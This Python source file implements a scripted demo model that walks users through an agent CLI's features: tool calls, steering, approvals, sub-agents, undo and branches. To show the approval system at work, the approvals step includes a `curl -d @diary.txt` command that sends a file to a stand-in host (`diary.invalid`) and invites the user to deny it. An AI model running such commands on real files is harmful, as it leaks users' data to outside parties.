"""A scripted model: a tour of the program that needs no key, no network and no model files.

It says that it is a script, but its effects are real: the tools run, the files exist, approvals are
requested, agents are started (the script answers them as well). Its state follows from the request alone, so
it can be interrupted, resumed, undone and branched like any other model.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from agent.core.event_data import Usage
from agent.errors import ModelError
from agent.model.protocol import CallFragment, Delta, ModelRequest, ReplyEnd, TextDelta, UsageDelta
from tools.kit.lazy_pattern import lazy_pattern

FOLDER = "hermes-demo"
FILE = f"{FOLDER}/greet.sh"
DIARY = f"{FOLDER}/diary.txt"

WORDS_PER_PIECE = 3
LETTERS_PER_TOKEN = 4
"""The number of letters counted as one token, as the script has no tokenizer."""

CONNECT = """\
A real model is connected with alt+m (`/model`): by the key of a provider, a server on this machine, or a \
small model that needs neither. In a shell: `OPENROUTER_API_KEY=… hermes --model openrouter/<model>`, \
`hermes --model ollama/<model>`, or `hermes model pull` and then `hermes --model local`."""

_TOUR = lazy_pattern(r"\btour\b", re.IGNORECASE)
_PIECE = lazy_pattern(rf"(?:\S+\s*){{1,{WORDS_PER_PIECE}}}|\s+")
_LETTERS_PER_FRAGMENT = 24
_GO_ON = ("next", "continue", "go on", "yes", "ok")
WORDS_DELAY = 0.02
"""Seconds between two pieces of a message."""
SLOW = 4.0
"""Seconds before each message of the step in which the user steers."""

TOUR_REQUEST = "Show me the tour."
"""The message that begins the tour if the user has not typed one."""
INTRODUCTION = (
    "Hello! I am the demo: a fixed script, no language model, so this is all I can do. "
    "I show you how an agent works here; the tools I call are the real ones."
)

_PLAN = ("Write a small script", "Run it and read it back", "Change it and find the change")


@dataclass(frozen=True, slots=True)
class _Call:
    """One call of the tour, and the text before it."""

    tool: str
    says: str
    arguments: Mapping[str, Any]
    needs_file: bool = False
    """True if the call makes sense only if the file was written."""


@dataclass(frozen=True, slots=True)
class _Step:
    """One turn of the tour: its calls, and the text before and after them."""

    word: str
    """The message that begins this step at any time."""
    offer: str
    """A sentence on what the user can do in it; empty for a step that is not announced."""
    calls: tuple[_Call, ...] = ()
    after: Callable[[_Turn], str] = lambda _: ""
    until_steered: bool = False
    """True if its calls are slow, and are left out once the user has steered."""


def _todos(*statuses: str) -> dict[str, Any]:
    items = zip(_PLAN, statuses, strict=True)
    return {
        "todos": [
            {"id": str(number), "content": content, "status": status}
            for number, (content, status) in enumerate(items, 1)
        ]
    }


TOUR = (
    _Call(
        "todo_write",
        "An agent begins with a plan, which you see on the task list.",
        _todos("in_progress", "pending", "pending"),
    ),
    _Call(
        "write_file",
        f"First I write a file into a folder of its own, `{FOLDER}`. "
        "Whatever changes something is checked first; you may be asked.",
        {"path": FILE, "content": "echo 'Hello from the demo.'\necho 'Goodbye.'\n"},
    ),
    _Call(
        "terminal",
        "Now I run it. Commands are checked as well.",
        {"command": f"sh {FILE}"},
        needs_file=True,
    ),
    _Call("read_file", "An agent reads before it changes something.", {"path": FILE}, needs_file=True),
    _Call(
        "patch",
        "A small change; its card shows it as a diff.",
        {"mode": "replace", "path": FILE, "old_string": "Goodbye.", "new_string": "See you soon."},
        needs_file=True,
    ),
    _Call(
        "search",
        "And a search that finds the change.",
        {"pattern": "See you", "path": FOLDER},
        needs_file=True,
    ),
    _Call(
        "todo_write", "That was the plan, so the list is done.", _todos("completed", "completed", "completed")
    ),
    _Call(
        "clarify",
        "When an agent is unsure, it asks.",
        {
            "question": "What would you like to know more about?",
            "choices": ["Connecting a model", "Approvals", "Sessions"],
        },
    ),
)
"""The calls of the first step."""

_TOPICS = {
    "Connecting a model": CONNECT,
    "Approvals": (
        "About approvals: each action can be allowed once, for the session or always, or denied with a "
        "reason that the model reads. `--approve deny` refuses everything that would need a yes."
    ),
    "Sessions": (
        "About sessions: every message is kept the moment it exists. `hermes --continue` resumes the "
        "newest session of this folder, `hermes sessions` lists and searches all of them."
    ),
}

AGENTS = {
    f"Read {FILE} and say how it begins": _Call("read_file", "I read the file.", {"path": FILE}),
    f"Search {FOLDER} for every echo": _Call(
        "search", "I search the folder.", {"pattern": "echo", "path": FOLDER}
    ),
}
"""The goals of the agents that the tour starts, and the call with which the script reaches each."""


def _after_first(turn: _Turn) -> str:
    answer = turn.results[-1].get("answer") if turn.results else None
    about = _TOPICS.get(answer, CONNECT) if isinstance(answer, str) else CONNECT
    return f"That was a turn; a click on a card unfolds what its call did.\n\n{about}"


def _after_steering(turn: _Turn) -> str:
    if not turn.steered:
        return "Nothing came, so I went on. A message that is only sent (⏎) waits for the end of the turn."
    words = " ".join(turn.steered[0].split()).replace("`", "'")
    return (
        f"You steered: I read `{words[:60]}` before my next request, and stopped reading slowly. "
        "A message that is only sent (⏎) waits for the end of the turn."
    )


def _after_approvals(turn: _Turn) -> str:
    worked = [_is_success(result) for result in turn.results] + [False] * 3
    first = "The first was allowed: the file is there." if worked[1] else "The first did not happen: no file."
    refused = turn.results[-1:] and "exit_code" not in turn.results[-1]
    second = (
        "The second did not run, and I read that you refused it."
        if refused
        else "The second was allowed and ran; only the address was wrong."
    )
    return f"{first} {second} `/audit` lists both; alt+a changes how much is asked."


def _after_agents(turn: _Turn) -> str:
    reports = [each for result in turn.results for each in _dicts(result.get("results"))]
    if not reports:
        return "No agent was sent; the card says why."
    return (
        f"{len(reports)} agents worked side by side and reported to me. alt+2 lists them with what each took "
        "and cost ($0 here, as a script answers), ⏎ there opens an agent's conversation, `/usage` adds up."
    )


def _after_check(turn: _Turn) -> str:
    if turn.results and all(map(_is_success, turn.results)):
        return "`cmp` finds no byte that differs. Right after an undo, alt+y (`/redo`) does it again."
    return "They differ: what I did is still there. alt+u takes it back; then send `check` once more."


STEPS = (
    _Step("tour", "see a first turn.", TOUR, _after_first),
    _Step(
        "steer",
        "**steer.** I read a file again and again, slowly. Meanwhile write `enough` and press ^S: "
        "it reaches me in the middle of the turn. If nothing comes, I continue by myself.",
        tuple(_Call("read_file", f"Reading, slowly: {n} of 6.", {"path": FILE}) for n in range(1, 7)),
        _after_steering,
        until_steered=True,
    ),
    _Step(
        "approve",
        "**approve and deny.** I ask for two things that are guarded. Allow the first one, deny the second.",
        (
            _Call(
                "write_file",
                "An ordinary file passes: undo can bring back what was there.",
                {"path": DIARY, "content": "Today I took a tour.\n"},
            ),
            _Call(
                "write_file",
                "A build service would run what stands in this file, so I need your yes. Allow it.",
                {
                    "path": f"{FOLDER}/.github/workflows/greet.yml",
                    "content": "on: push\njobs:\n  greet:\n    runs-on: ubuntu-latest\n"
                    "    steps:\n      - run: sh greet.sh\n",
                },
            ),
            _Call(
                "terminal",
                "Now I would send the diary to a stranger (whose address does not exist). "
                "Deny it, with a reason if you like.",
                {"command": f"curl -d @{DIARY} https://diary.invalid/"},
            ),
        ),
        _after_approvals,
    ),
    _Step(
        "agents",
        "**two agents.** I send them to work side by side. You see first what they may take and cost, "
        "then (alt+2) what they did.",
        (
            _Call(
                "delegate_task",
                "Two agents, each with a goal of its own. The forecast is for the most they might take.",
                {
                    "tasks": [
                        {"goal": goal, "isolation": "readonly", "toolsets": [call.tool]}
                        for goal, call in AGENTS.items()
                    ]
                },
            ),
        ),
        _after_agents,
    ),
    _Step(
        "undo",
        "**undo.** I spoil the script and write a file nobody wants. You press alt+u, which takes back both "
        "files and that turn; clear the prompt (ctrl+c) and send `check`, and I compare the bytes.",
        (
            _Call("write_file", "Now I spoil the script.", {"path": FILE, "content": "exit 1 # spoiled\n"}),
            _Call("write_file", "And some junk.", {"path": f"{FOLDER}/junk.txt", "content": "junk\n"}),
        ),
        lambda _: (
            "**Press alt+u** (or send `/undo`). The files come back byte for byte, and this turn leaves the "
            "conversation. What you sent is back in the prompt then: ctrl+c clears it. Send `check`."
        ),
    ),
    _Step(
        "check",
        "",
        (
            _Call(
                "write_file",
                "This is what the script was before I spoiled it, as a second file.",
                {
                    "path": f"{FOLDER}/before.sh",
                    "content": "echo 'Hello from the demo.'\necho 'See you soon.'\n",
                },
            ),
            _Call(
                "terminal",
                "Compare both byte by byte; and the junk has to be gone.",
                {"command": f"cmp {FILE} {FOLDER}/before.sh && test ! -e {FOLDER}/junk.txt"},
            ),
        ),
        _after_check,
    ),
    _Step(
        "branches",
        "**branches** (optional).",
        after=lambda _: (
            "Send `/branch try` and you continue with a branch that begins here; the one you leave stays. "
            "`/branches` lists, compares and switches; esc twice goes back to before one of your messages. "
            "alt+u takes you back to where you were."
        ),
    ),
    _Step(
        "timeline",
        "**the timeline** (optional).",
        after=lambda _: (
            "alt+t shows everything said and done here as a tree, what you undid as well. esc comes back."
        ),
    ),
    _Step(
        "skins",
        "**skins** (optional).",
        after=lambda _: (
            "^T lists the skins and previews each one as you move; ⏎ keeps it, esc leaves it as it was."
        ),
    ),
    _Step(
        "model",
        "**connect a model.**",
        after=lambda _: (
            "Press **alt+m**. A model that is ready answers from your next message on; a provider is added "
            "there with its key, which is checked with one request and kept where only you can read it.\n\n"
            "That was the tour. Work continues in your own project: `/resume` lists your sessions, and "
            "`hermes` in its folder starts a new one. ^P finds any command, F1 shows the keys of the place "
            f"you are in. What I wrote is in `{FOLDER}`; delete it when you like."
        ),
    ),
)
"""The steps of the tour, one turn each."""


@dataclass(frozen=True, slots=True)
class _Move:
    """The next message of the script: a text, and possibly a tool call."""

    text: str
    tool: str = ""
    arguments: str = ""
    call_id: str = ""
    pause: float = 0.0
    """Seconds to wait before it begins."""


class DemoClient:
    """A `ModelClient` that follows the script. `delay` replaces `WORDS_DELAY`."""

    def __init__(
        self, delay: float | None = None, *, sleep: Callable[[float], Awaitable[object]] = asyncio.sleep
    ) -> None:
        self._delay = WORDS_DELAY if delay is None else delay
        self._sleep = sleep

    async def stream(self, request: ModelRequest) -> AsyncIterator[Delta]:
        """Stream the next message of the script. Raises `ModelError` if the request is not a conversation."""
        move = next_move([_object(frame.data, strict=True) for frame in request.frames], _tool_names(request))
        if move.pause:
            await self._sleep(move.pause)
        for piece in _PIECE.findall(move.text):
            yield TextDelta(piece)
            await self._sleep(self._delay)
        if move.tool:
            yield CallFragment(0, move.call_id, move.tool)
            for at in range(0, len(move.arguments), _LETTERS_PER_FRAGMENT):
                yield CallFragment(0, arguments=move.arguments[at : at + _LETTERS_PER_FRAGMENT])
                await self._sleep(self._delay)
        size = sum(map(len, request.frames)) + len(request.system) + len(request.tools)
        written = len(move.text) + len(move.arguments)
        yield UsageDelta(Usage(size // LETTERS_PER_TOKEN, written // LETTERS_PER_TOKEN, 0))
        yield ReplyEnd("tool_calls" if move.tool else "stop")

    async def aclose(self) -> None:
        """Do nothing, because no connection is open."""


@dataclass(slots=True)
class _Turn:
    """The newest turn of the conversation so far."""

    number: int
    """The number of user messages before it."""
    step: int | None = 0
    """The index of its step; None if it has no calls and only explains."""
    skips: bool = False
    results: list[dict[str, Any]] = field(default_factory=list)
    """Results of its calls, in order."""
    steered: list[str] = field(default_factory=list)
    """The messages that the user sent while it ran."""
    over: bool = False


def next_move(messages: Sequence[Mapping[str, Any]], offered: Iterable[str]) -> _Move:
    """Return the script's next message after `messages`, given the tools on offer. Pure."""
    turn, following = _last_turn(messages)
    if (goal := _agent_goal(messages)) is not None:
        return _agent_move(goal, turn)
    if turn.step is None:
        talk = [] if turn.skips else [_HONEST, CONNECT]
        return _Move("\n\n".join([*talk, _offer(following)]))
    step, tools, results = STEPS[turn.step], set(offered), iter(turn.results)
    written, worked = "write_file" in tools, True
    failed: list[str] = []
    for number, call in enumerate(step.calls):
        if call.tool not in tools or (call.needs_file and not written):
            continue
        result = next(results, None)
        if result is None:
            if step.until_steered and turn.steered:
                break
            opening = "" if worked or turn.step else "That did not work; its card says why. "
            opening = opening if turn.results or turn.step else f"{INTRODUCTION}\n\n"
            arguments = json.dumps(call.arguments, ensure_ascii=False)
            pause = SLOW if step.until_steered else 0.0
            return _Move(
                opening + call.says, call.tool, arguments, f"call_demo_{turn.number}_{number}", pause
            )
        worked = _is_success(result)
        if not worked:
            failed.append(call.tool)
            written = written and call.tool != "write_file"
    return _Move(_ending(step, turn, [] if turn.step else failed))


_HONEST = "I am the demo, a fixed script: no model is answering, and I cannot read what you wrote."


def _ending(step: _Step, turn: _Turn, failed: Sequence[str]) -> str:
    if step.calls and not turn.results:
        parts = [INTRODUCTION, "Without tools, though, there is nothing to show.", CONNECT]
        return "\n\n".join(parts if not turn.step else parts[1:2])
    parts = [step.after(turn)]
    if failed:
        parts.append(f"Not everything worked ({', '.join(dict.fromkeys(failed))}); the cards say why.")
    parts.append(_offer(STEPS.index(step) + 1))
    if turn.step == 0:
        parts.append("`/new` leaves the tour, `/resume` goes back to your sessions.")
    return "\n\n".join(filter(None, parts))


def _offer(step: int) -> str:
    """Return what comes next and how the user continues; empty if the next step is not announced."""
    if step == len(STEPS):
        return "Send `tour` to see it once more."
    if not (offer := STEPS[step].offer):
        return ""
    return f"Next: {offer} Send `next`, or `skip` to leave it out."


def _agent_goal(messages: Iterable[Mapping[str, Any]]) -> str | None:
    """Return the goal of this conversation if it belongs to an agent that the tour started, or None."""
    first = next((str(each.get("content")) for each in messages if each.get("role") == "user"), "")
    return next((goal for goal in AGENTS if goal in first), None)


def _agent_move(goal: str, turn: _Turn) -> _Move:
    call = AGENTS[goal]
    if not turn.results:
        return _Move(call.says, call.tool, json.dumps(call.arguments), f"call_demo_{turn.number}_0", SLOW / 2)
    if not _is_success(turn.results[0]):
        return _Move("That did not work: the call was refused or failed.")
    matches = turn.results[0].get("matches")
    found = str(turn.results[0].get("content") or f"{len(matches or ())} lines have it.")
    return _Move(f"Done: {' '.join(found.split())[:120]}")


def _last_turn(messages: Iterable[Mapping[str, Any]]) -> tuple[_Turn, int]:
    """Return the newest turn, and the index of the step that comes next."""
    turn: _Turn | None = None
    following = asked = 0
    waiting: list[str] = []
    for message in messages:
        role, content = message.get("role"), message.get("content")
        text = content if isinstance(content, str) else ""
        if role == "user":
            if turn is not None and turn.results and turn.results[-1].get("status") == "interrupted":
                turn.over = True  # by the person: what they say then is not steering
                following = following if turn.step is None else turn.step + 1
            if turn is None:
                turn = _Turn(asked)
            elif turn.over:
                turn, following = _begin(text, asked, following)
            else:
                turn.steered.append(text)
            asked += 1
        elif turn is None:
            continue
        elif role == "assistant":
            waiting = [str(call.get("id")) for call in _dicts(message.get("tool_calls"))]
            if not waiting and not turn.over:
                turn.over = True
                following = following if turn.step is None else turn.step + 1
        elif role == "tool" and message.get("tool_call_id") in waiting:
            turn.results.append(_object(text))
    return turn or _Turn(0), following


def _begin(text: str, number: int, following: int) -> tuple[_Turn, int]:
    """Return the turn that a message begins, and the index of the step that comes next."""
    word = text.strip(" \t\n`'\".!/").lower()
    named = next((at for at, step in enumerate(STEPS) if step.word == word), None)
    if named is None and word in _GO_ON and following < len(STEPS):
        named = following
    if named is None and _TOUR.search(text):
        named = 0
    if named is None and word == "skip":
        later = (at for at in range(following + 1, len(STEPS)) if STEPS[at].offer)
        return _Turn(number, None, skips=True), next(later, len(STEPS))
    return _Turn(number, named), following


def _is_success(result: Mapping[str, Any]) -> bool:
    return not result.get("error") and result.get("exit_code") in (None, 0)


def _tool_names(request: ModelRequest) -> Iterator[str]:
    try:
        tools = json.loads(request.tools or b"[]")
    except (ValueError, RecursionError):
        raise _no_conversation() from None
    for tool in _dicts(tools):
        function = tool.get("function")
        if isinstance(function, dict):
            yield str(function.get("name"))


def _dicts(value: Any) -> list[dict[str, Any]]:
    return [item for item in value if isinstance(item, dict)] if isinstance(value, list) else []


def _object(text: str | bytes, *, strict: bool = False) -> dict[str, Any]:
    """Return a text as a JSON object. Anything else becomes an empty object, or raises `ModelError` with
    `strict`.
    """
    try:
        value = json.loads(text)
    except (ValueError, RecursionError):
        value = None
    if isinstance(value, dict):
        return value
    if strict:
        raise _no_conversation()
    return {}


def _no_conversation() -> ModelError:
    return ModelError("bad_request", "The demo model was sent something that is not a conversation.")
